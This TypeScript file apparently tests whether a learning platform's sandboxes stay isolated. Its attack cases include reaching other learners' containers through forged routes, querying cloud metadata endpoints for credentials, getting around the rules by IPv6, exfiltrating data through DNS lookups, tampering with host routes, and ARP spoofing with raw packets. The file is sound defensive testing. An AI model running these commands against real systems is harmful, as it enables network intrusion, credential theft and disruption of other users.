/** Attacks 15 to 26: along the network, to other learners, the machine and the world. */
import { execFile } from 'node:child_process';
import { createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { promisify } from 'node:util';
import { createNetwork } from '../../src/lib/server/sandbox/docker/networks.ts';
import type { Sandbox } from '../../src/lib/server/sandbox/index.ts';
import { blockedUnless, lines, type Attack, type Ground } from './attack.ts';

/** Of these addresses, the ones that answer in any way, a refusal included. */
async function answering({ python }: Ground, targets: [address: string, port: number][]): Promise<string[]> {
	const { stdout } = await python(`import socket, concurrent.futures as futures
def ask(target):
    try: socket.create_connection(target, 2).close(); return target
    except ConnectionRefusedError: return target
    except OSError: return None
for found in futures.ThreadPoolExecutor(8).map(ask, ${JSON.stringify(targets)}.copy() and [tuple(t) for t in ${JSON.stringify(targets)}]):
    if found: print(found[0])`);
	return lines(stdout);
}

/** Of a host of this sandbox: its own address and its bridge's. */
async function addresses({ inspect }: Ground, sandbox: Sandbox, host = 'box') {
	const network = Object.values((await inspect(sandbox, host)).NetworkSettings.Networks)[0];
	return {
		own: network?.IPAddress ?? '',
		gateway: network?.Gateway ?? '',
		prefix: network?.IPPrefixLen ?? 28
	};
}

/** Something that listens on every address of this machine while the attack goes on. */
async function whileListening<T>(act: (port: number) => Promise<T>): Promise<T> {
	const server = createServer((socket) => socket.on('error', () => {}).end());
	await new Promise<void>((done) => server.listen(0, '0.0.0.0', done));
	try {
		return await act((server.address() as { port: number }).port);
	} finally {
		server.close();
	}
}

const ownAddresses = () =>
	Object.values(networkInterfaces())
		.flatMap((list) => list ?? [])
		.filter(({ family, internal }) => family === 'IPv4' && !internal)
		.map(({ address }) => address);

/** What the machine's own tables say. */
async function tables(): Promise<string> {
	const read = async (program: string, ...args: string[]) =>
		(await promisify(execFile)(program, args)).stdout;
	const all = await Promise.all([
		read('iptables', '-S'),
		read('ip6tables', '-S'),
		read('ip', 'rule'),
		read('ip', '-4', 'route')
	]);
	// Networks of others come and go meanwhile.
	return lines(all.join(''))
		.filter((line) => !/\b(br-|lw)[0-9a-f]+|veth|docker0/.test(line))
		.join('\n');
}

const notAtHome = ({ atHome }: Ground) => (atHome ? null : 'the engine runs on another machine');

export const networkAttacks: Attack[] = [
	{
		...{ number: 15, name: 'Reach a host of one’s own sandbox, by name', expected: { runc: 'works' } },
		async run(ground) {
			const found = await answering(ground, [['peer', 1]]);
			return found.length
				? { outcome: 'works', seen: 'peer answers' }
				: { outcome: 'blocked', seen: 'peer does not answer' };
		}
	},
	{
		...{
			number: 16,
			name: 'Reach another learner’s host, with routes and addresses of one’s own making',
			expected: { runc: 'blocked' }
		},
		async run(ground) {
			const mine = await addresses(ground, ground.mallory);
			const theirs = await addresses(ground, ground.victim);
			const worked = await answering(ground, [[theirs.own, 22]]);
			await ground.root(
				`ip route replace ${theirs.own}/32 via ${mine.gateway}; ip addr add ${theirs.own.replace(/\d+$/, '14')}/32 dev eth0`
			);
			worked.push(...(await answering(ground, [[theirs.own, 22]])).map(() => 'by a route'));
			await ground.root(
				`ip route del ${theirs.own}/32; ip addr del ${theirs.own.replace(/\d+$/, '14')}/32 dev eth0`
			);
			return blockedUnless(worked);
		}
	},
	{
		...{
			number: 17,
			name: 'Reach a service of the machine at the bridge’s address',
			expected: { runc: 'blocked' }
		},
		async run(ground) {
			const { gateway } = await addresses(ground, ground.mallory);
			return whileListening(async (port) =>
				blockedUnless(
					await answering(ground, [
						[gateway, port],
						[gateway, 22],
						[gateway, 2375]
					])
				)
			);
		}
	},
	{
		...{
			number: 18,
			name: 'Reach the machine at its other addresses and bridges',
			expected: { runc: 'blocked' },
			unless: notAtHome
		},
		async run(ground) {
			return whileListening(async (port) =>
				blockedUnless(
					await answering(
						ground,
						ownAddresses().map((address) => [address, port])
					)
				)
			);
		}
	},
	{
		...{ number: 19, name: 'Ask the cloud for the machine’s credentials', expected: { runc: 'blocked' } },
		run: async (ground) =>
			whileListening(async (port) =>
				blockedUnless(
					await answering(ground, [
						['169.254.169.254', port],
						['169.254.169.254', 80],
						['169.254.170.2', 80]
					])
				)
			)
	},
	{
		...{ number: 20, name: 'Go around the rules by IPv6', expected: { runc: 'blocked' } },
		async run({ root }) {
			const { stdout } = await root(
				'echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6; ip -6 addr show scope global | grep inet6; ping -6 -c1 -W1 ff02::1%eth0 2>/dev/null | grep "bytes from"; ip -6 addr show dev eth0 | grep inet6'
			);
			return blockedUnless(lines(stdout));
		}
	},
	{
		...{ number: 21, name: 'Reach the world', expected: { runc: 'blocked' } },
		async run(ground) {
			const { gateway } = await addresses(ground, ground.mallory);
			await ground.root(`ip route replace default via ${gateway}`);
			// Documentation's own addresses, and whatever the machine's neighbours are.
			const neighbours = ownAddresses().map((address): [string, number] => [
				address.replace(/\d+$/, '1'),
				53
			]);
			return blockedUnless(
				await answering(ground, [['198.51.100.1', 443], ['203.0.113.1', 53], ...neighbours])
			);
		}
	},
	{
		...{ number: 22, name: 'Carry data out in questions for names', expected: { runc: 'blocked' } },
		async run({ root }) {
			const { stdout } = await root(
				'/.lab/bin/timeout 6 /.lab/bin/nslookup secret.labwright-attack.invalid 127.0.0.11 | grep -E "NXDOMAIN|^Address.*:[^:]*$" | grep -v "127.0.0.11"; getent hosts peer >/dev/null || echo "peer has no name any more"'
			);
			return blockedUnless(lines(stdout));
		}
	},
	{
		...{
			number: 24,
			name: 'Start so many networks that nobody else gets one',
			expected: { runc: 'works' },
			slow: true
		},
		async run({ docker, instance }) {
			const names = Array.from({ length: 40 }, (_, at) => `labwright-${instance}-many-${at}`);
			let made = 0;
			try {
				for (const name of names) {
					await createNetwork(docker, { name, labels: {}, hosts: 2, avoid: [] });
					made++;
				}
			} finally {
				for (const name of names.slice(0, made)) await docker.getNetwork(name).remove();
			}
			return { outcome: 'works', seen: `${made} networks at the same time` };
		}
	},
	{
		...{
			number: 25,
			name: 'Change the machine’s routes and rules from inside',
			expected: { runc: 'blocked' },
			unless: notAtHome
		},
		async run(ground) {
			const { gateway, prefix } = await addresses(ground, ground.mallory);
			const before = await tables();
			await ground.root(
				`ip link add lw0 type bridge; ip link set lw0 up; ip addr add ${gateway}/${prefix} dev eth0; ip route add 198.51.100.0/24 dev eth0; ip rule add from all lookup 100`
			);
			const after = await tables();
			await ground.root(
				`ip addr del ${gateway}/${prefix} dev eth0; ip link del lw0; ip rule del lookup 100; ip route del 198.51.100.0/24`
			);
			return blockedUnless(before === after ? [] : ['the machine’s tables changed']);
		}
	},
	{
		...{ number: 26, name: 'Pose as another learner’s neighbour by ARP', expected: { runc: 'blocked' } },
		async run(ground) {
			const peer = await addresses(ground, ground.victim, 'peer');
			const told = await ground.python(`import socket, time
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); out.bind(('eth0', 0))
mac = out.getsockname()[4]; ip = socket.inet_aton('${peer.own}')
for _ in range(20): out.send(b'\\xff' * 6 + mac + b'\\x08\\x06\\0\\x01\\x08\\0\\x06\\x04\\0\\x02' + mac + ip + mac + ip); time.sleep(0.02)
print(mac.hex(':'))`);
			const mac = told.stdout.trim();
			const known = await ground.victim.exec('box', { command: ['ip', 'neigh'] });
			if (told.code !== 0 || !mac)
				return { outcome: 'open', seen: `could not be tried: ${told.stderr.slice(-100)}` };
			return blockedUnless(known.stdout.includes(mac) ? ['the neighbour believes it'] : []);
		}
	}
];
